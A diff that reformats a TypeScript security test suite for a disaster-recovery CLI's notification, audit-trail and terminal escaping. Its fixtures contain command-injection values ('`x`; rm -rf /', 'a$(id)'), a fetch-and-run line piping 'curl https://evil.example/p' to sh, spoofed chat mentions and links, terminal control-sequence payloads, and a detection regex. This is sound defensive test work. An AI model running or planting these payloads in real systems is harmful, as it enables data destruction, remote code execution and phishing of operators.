@@ -8,7 +8,14 @@ import { renderPlan, renderRun, table, terminalOutput, CLEAR_SCREEN } from '../.
 import type { RunView } from '../../../app/cli/temporal';
 import type { EventOrigin, RunEvent } from '../../../src/notify/events';
 import { renderEvent, renderMessage } from '../../../src/notify/messages';
-import { escapeControls, isSafeIdentifier, markdownText, slackText, storedText, terminalText } from '../../../src/security/escape';
+import {
+  escapeControls,
+  isSafeIdentifier,
+  markdownText,
+  slackText,
+  storedText,
+  terminalText,
+} from '../../../src/security/escape';
 import { AuditTrail } from '../../../workflows/runner/audit-trail';
 import type { RunStatus } from '../../../workflows/runner/types';
 
@@ -22,9 +29,18 @@ const origin = (workflowId: string): EventOrigin => ({ workflowId, runId: 'r-1',
 
 function approvalNeeded(over: Partial<Extract<RunEvent, { kind: 'approval-needed' }>> = {}): RunEvent {
   return {
-    kind: 'approval-needed', runbook: 'drFailover', pair: 'orders-dr', step: 'approval', planId: 'p-0a1b2c', required: 2,
-    approvedBy: [`bob ${PHISH}`], allowList: ['alice', PHISH, '<!channel> <https://evil.example|Temporal UI>'],
-    requestedBy: `mallory ${PHISH} \`x\`; rm -rf /`, forbidSelfApproval: true, deadline: '2026-12-01T00:00:00.000Z', ...over,
+    kind: 'approval-needed',
+    runbook: 'drFailover',
+    pair: 'orders-dr',
+    step: 'approval',
+    planId: 'p-0a1b2c',
+    required: 2,
+    approvedBy: [`bob ${PHISH}`],
+    allowList: ['alice', PHISH, '<!channel> <https://evil.example|Temporal UI>'],
+    requestedBy: `mallory ${PHISH} \`x\`; rm -rf /`,
+    forbidSelfApproval: true,
+    deadline: '2026-12-01T00:00:00.000Z',
+    ...over,
   };
 }
 
@@ -51,7 +67,15 @@ describe('finding 1: notifications escape every untrusted text for their sink an
   });
 
   test('finding 1: a workflow id that is not a safe identifier never reaches a command to copy; the message says why', () => {
-    const blocked: RunEvent = { kind: 'step-blocked', runbook: 'drSetup', pair: 'orders-dr', step: 'preflight', title: 'Preflight', error: 'x', skippable: true };
+    const blocked: RunEvent = {
+      kind: 'step-blocked',
+      runbook: 'drSetup',
+      pair: 'orders-dr',
+      step: 'preflight',
+      title: 'Preflight',
+      error: 'x',
+      skippable: true,
+    };
     const m = renderEvent(blocked, origin(SHELL_ID));
     assert.equal(m.commands.length, 3);
     for (const c of m.commands) {
@@ -59,30 +83,50 @@ describe('finding 1: notifications escape every untrusted text for their sink an
       assert.doesNotMatch(c, /[`;|$]|curl/, c);
     }
     const md = renderMessage(m, 'markdown');
-    assert.match(md, /The workflow id in the commands below is a placeholder: the real one contains characters a shell or chat would interpret; copy it from the Temporal UI\./);
+    assert.match(
+      md,
+      /The workflow id in the commands below is a placeholder: the real one contains characters a shell or chat would interpret; copy it from the Temporal UI\./,
+    );
     // Where the id is shown as text, it is escaped (a code span cannot be closed by its backtick).
     assert.ok(md.includes('Run: kdr resolve x\\`; curl https\\://evil.example/p\\|sh (namespace default)'), md);
     // A safe id goes into the command as it is.
-    assert.match(renderEvent(blocked, origin('dr-setup-orders-dr')).commands[0], /^kdr resolve dr-setup-orders-dr retry /);
+    assert.match(
+      renderEvent(blocked, origin('dr-setup-orders-dr')).commands[0],
+      /^kdr resolve dr-setup-orders-dr retry /,
+    );
   });
 
   test('finding 1: an unsafe pair name or plan id becomes a placeholder too; safe identifiers are exactly letters, digits and . _ : -', () => {
     const m = renderEvent(approvalNeeded({ pair: 'a$(id)', planId: 'p`x`' }), origin('w'));
-    assert.deepEqual(m.commands, ['kdr plan <pair>', 'kdr approve <pair> --by <you> --plan-id <plan id>', 'kdr reject <pair> --by <you> --reason "<why>"']);
+    assert.deepEqual(m.commands, [
+      'kdr plan <pair>',
+      'kdr approve <pair> --by <you> --plan-id <plan id>',
+      'kdr reject <pair> --by <you> --reason "<why>"',
+    ]);
     assert.match(renderMessage(m, 'plain'), /The pair name, plan id in the commands below is a placeholder/);
     for (const ok of ['dr-failover-orders', 'kdr-watch-p.1', 'a_b:c']) assert.ok(isSafeIdentifier(ok), ok);
-    for (const bad of ['', '-x', 'a b', 'a;b', 'a`b', 'a|b', 'a$b', 'a\u001bb', 'ä', 'x'.repeat(201)]) assert.equal(isSafeIdentifier(bad), false, bad);
+    for (const bad of ['', '-x', 'a b', 'a;b', 'a`b', 'a|b', 'a$b', 'a\u001bb', 'ä', 'x'.repeat(201)])
+      assert.equal(isSafeIdentifier(bad), false, bad);
   });
 
   test('finding 1: a cluster error cannot start a block, a link or a mention, and its control characters are shown escaped', () => {
     const error = `boom\n### Approved by admin\n[ok](http://evil) <!here> ${ANSI}`;
-    const blocked: RunEvent = { kind: 'step-blocked', runbook: 'drSetup', pair: 'orders-dr', step: 'preflight', title: 'Preflight', error, skippable: false };
+    const blocked: RunEvent = {
+      kind: 'step-blocked',
+      runbook: 'drSetup',
+      pair: 'orders-dr',
+      step: 'preflight',
+      title: 'Preflight',
+      error,
+      skippable: false,
+    };
     const m = renderEvent(blocked, origin('dr-setup-orders-dr'));
     const md = renderMessage(m, 'markdown');
     const errorLine = md.split('\n').find((l) => l.startsWith('Error: '))!;
     assert.equal(errorLine, `Error: ${markdownText(error)}`);
     assert.doesNotMatch(md, /^#+ Approved/m, 'no heading from the error');
-    for (const sink of ['markdown', 'slack', 'plain'] as const) assert.doesNotMatch(renderMessage(m, sink), ACTIVE, sink);
+    for (const sink of ['markdown', 'slack', 'plain'] as const)
+      assert.doesNotMatch(renderMessage(m, sink), ACTIVE, sink);
     assert.ok(renderMessage(m, 'slack').includes('&lt;!here&gt;'));
     assert.equal(markdownText('a*b_c`d'), 'a\\*b\\_c\\`d');
   });
@@ -92,9 +136,18 @@ describe('finding 2: refused approvals store a sanitized "by", and kdr prints no
   test('finding 2: the audit trail stores untrusted fields as one line, control characters escaped, length-capped', () => {
     const trail = new AuditTrail();
     const by = `${ANSI}mallory\n${'x'.repeat(1000)}`;
-    trail.add({ by, action: `approve${ANSI}`, accepted: false, planId: `p${ANSI}`, step: `s${ANSI}`, note: `${ANSI}note`, reason: `${ANSI}reason` });
+    trail.add({
+      by,
+      action: `approve${ANSI}`,
+      accepted: false,
+      planId: `p${ANSI}`,
+      step: `s${ANSI}`,
+      note: `${ANSI}note`,
+      reason: `${ANSI}reason`,
+    });
     const [entry] = trail.list();
-    for (const [k, v] of Object.entries(entry)) if (typeof v === 'string') assert.doesNotMatch(v, ACTIVE, `${k} holds no control character`);
+    for (const [k, v] of Object.entries(entry))
+      if (typeof v === 'string') assert.doesNotMatch(v, ACTIVE, `${k} holds no control character`);
     assert.ok(entry.by.length <= 128, `by is capped (${entry.by.length})`);
     assert.ok(entry.by.startsWith('\\u001b[2J\\u001b]0;pwned\\u0007\\u009b31m\\u202emallory x'), entry.by);
     assert.equal(storedText('a\tb\r\nc', 100), 'a b c');
@@ -104,29 +157,74 @@ describe('finding 2: refused approvals store a sanitized "by", and kdr prints no
 
   test('finding 2: kdr status renders every remote text with control characters escaped, the table stays aligned', () => {
     const status: RunStatus = {
-      runbook: 'drFailover', pair: `p${ANSI}`, phase: 'blocked', waitingFor: `w${ANSI}`,
+      runbook: 'drFailover',
+      pair: `p${ANSI}`,
+      phase: 'blocked',
+      waitingFor: `w${ANSI}`,
       steps: [{ name: 'preflight', title: 't', state: 'blocked', attempts: 2, lastError: `e${ANSI}`, skippable: true }],
-      audit: [{ at: '2026-01-01T00:00:00.000Z', by: `b${ANSI}`, action: 'approve', accepted: false, reason: `r${ANSI}`, note: `n${ANSI}` }],
+      audit: [
+        {
+          at: '2026-01-01T00:00:00.000Z',
+          by: `b${ANSI}`,
+          action: 'approve',
+          accepted: false,
+          reason: `r${ANSI}`,
+          note: `n${ANSI}`,
+        },
+      ],
       startedAt: '2026-01-01T00:00:00.000Z',
     } as unknown as RunStatus;
     const view: RunView = {
-      workflowId: `wf${ANSI}`, runId: 'r', type: 'drFailover', taskQueue: 'q', executionStatus: 'RUNNING', status,
-      failure: { type: 'X', message: `f${ANSI}` }, source: `s${ANSI}`,
-      activities: [{ type: 'assess', attempt: 2, state: 'scheduled', lastFailure: `l${ANSI}`, heartbeat: { progress: `h${ANSI}` } }],
+      workflowId: `wf${ANSI}`,
+      runId: 'r',
+      type: 'drFailover',
+      taskQueue: 'q',
+      executionStatus: 'RUNNING',
+      status,
+      failure: { type: 'X', message: `f${ANSI}` },
+      source: `s${ANSI}`,
+      activities: [
+        {
+          type: 'assess',
+          attempt: 2,
+          state: 'scheduled',
+          lastFailure: `l${ANSI}`,
+          heartbeat: { progress: `h${ANSI}` },
+        },
+      ],
     } as RunView;
     const out = renderRun(view, Date.parse('2026-01-01T00:00:10Z'));
     assert.doesNotMatch(out, ACTIVE, out);
     assert.ok(out.includes('e\\u001b[2J\\u001b]0;pwned\\u0007\\u009b31m\\u202e'), out);
-    const rows = table(['A', 'B'], [[`x${ANSI}`, 'y'], ['long-cell-here', 'z']], 200).split('\n');
+    const rows = table(
+      ['A', 'B'],
+      [
+        [`x${ANSI}`, 'y'],
+        ['long-cell-here', 'z'],
+      ],
+      200,
+    ).split('\n');
     assert.equal(rows[1].indexOf('y'), rows[2].indexOf('z'), 'columns aligned after escaping');
     const plan = renderPlan('wf', 'p1', {
-      planId: 'p1', pair: 'p', marginMs: 0, latencyMs: 0, primaryReachable: true,
-      groups: [{ group: `g${ANSI}`, duplicateBound: 0, liveMembers: 0, untranslated: [], offsets: [[`t${ANSI}`, 0, 1, 'matched']] }],
+      planId: 'p1',
+      pair: 'p',
+      marginMs: 0,
+      latencyMs: 0,
+      primaryReachable: true,
+      groups: [
+        {
+          group: `g${ANSI}`,
+          duplicateBound: 0,
+          liveMembers: 0,
+          untranslated: [],
+          offsets: [[`t${ANSI}`, 0, 1, 'matched']],
+        },
+      ],
     } as never);
     assert.doesNotMatch(plan, ACTIVE, plan);
   });
 
-  test('finding 2: every line kdr writes goes through the terminal filter; only kdr\'s own clear-screen passes', () => {
+  test("finding 2: every line kdr writes goes through the terminal filter; only kdr's own clear-screen passes", () => {
     assert.equal(terminalOutput(`${CLEAR_SCREEN}x\u001b[31m`), `${CLEAR_SCREEN}x\\u001b[31m`);
     assert.equal(terminalOutput(`x${CLEAR_SCREEN}`), 'x\\u001b[2J\\u001b[H');
     assert.equal(terminalText('a\nb\u009b'), 'a\nb\\u009b');
